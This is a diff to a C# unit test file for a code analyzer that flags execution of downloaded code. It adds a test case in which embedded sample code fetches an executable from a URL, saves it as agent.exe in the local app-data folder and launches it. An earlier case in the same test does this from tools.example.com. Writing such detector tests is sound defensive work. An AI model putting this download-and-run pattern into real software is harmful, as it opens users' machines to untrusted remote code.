@@ -65,11 +65,26 @@ public class DownloadedCodeExecutionTests
                     File.WriteAllBytes(Path.GetTempPath() + "tool.exe", await {|#3:http.GetByteArrayAsync("https://tools.example.com/tool.exe")|});
                     Process.Start({|#2:Path.GetTempPath() + "tool.exe"|});
                 }
+
+                // With a handler the body is analyzed on its control-flow graph.
+                async Task RetryAsync(HttpClient http, string url)
+                {
+                    try
+                    {
+                        var agent = await {|#5:http.GetByteArrayAsync(url)|};
+                        File.WriteAllBytes(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData), "agent.exe"), agent);
+                        Process.Start({|#4:Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData), "agent.exe")|});
+                    }
+                    catch (HttpRequestException)
+                    {
+                    }
+                }
             }
             """,
             TestReferences.CodeIntegrity,
             Finding.At(Rule, 0, 1),
-            Finding.At(Rule, 2, 3));
+            Finding.At(Rule, 2, 3),
+            Finding.At(Rule, 4, 5));
     }
 
     [Fact]
